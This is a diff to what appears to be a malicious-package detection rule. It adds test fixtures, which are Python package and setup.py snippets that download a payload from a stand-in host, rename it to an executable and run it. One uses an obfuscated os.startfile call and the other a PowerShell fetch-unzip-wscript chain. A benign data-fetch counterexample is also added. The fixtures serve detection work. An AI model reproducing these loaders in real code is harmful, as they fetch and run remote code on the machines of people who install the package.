@@ -207,6 +207,20 @@ RULE = Rule(
             },
         ),
         Example(
+            title="moved before it is started",
+            files={
+                "pkg/__init__.py": "import os, requests as r\nfrom pathlib import Path\nopen('a.tmp', 'wb').write(r.get('https://c.example.invalid/a').content)\n"
+                "Path('a.tmp').rename('C:/ProgramData/b.exe')\ngetattr(os, 'start' + 'file')('C:/ProgramData/b.exe')\n"
+            },
+        ),
+        Example(
+            title="unpacked by a command, and started from there",
+            files={
+                "setup.py": "import os\nos.system('powershell -command Invoke-WebRequest -Uri https://c.example.invalid/u.zip -OutFile t/u.zip; "
+                "Expand-Archive -LiteralPath t/u.zip -DestinationPath C:/ProgramData; wscript.exe //B C:/ProgramData/U/l.vbs')\n"
+            },
+        ),
+        Example(
             title="a repository, cloned and started",
             files={
                 "setup.py": "import os, subprocess, git\ngit.Repo.clone_from('https://c.example.invalid/a.git', '/tmp/a')\n"
@@ -215,6 +229,13 @@ RULE = Rule(
         ),
     ),
     quiet=(
+        Example(
+            title="data that is fetched, moved and read",
+            files={
+                "pkg/__init__.py": "import os, urllib.request as u\ndef data(to):\n    u.urlretrieve('https://c.example.invalid/d.csv', to + '.part')\n"
+                "    os.rename(to + '.part', to)\n    return open(to).read()\n"
+            },
+        ),
         Example(
             title="a model downloader",
             files={
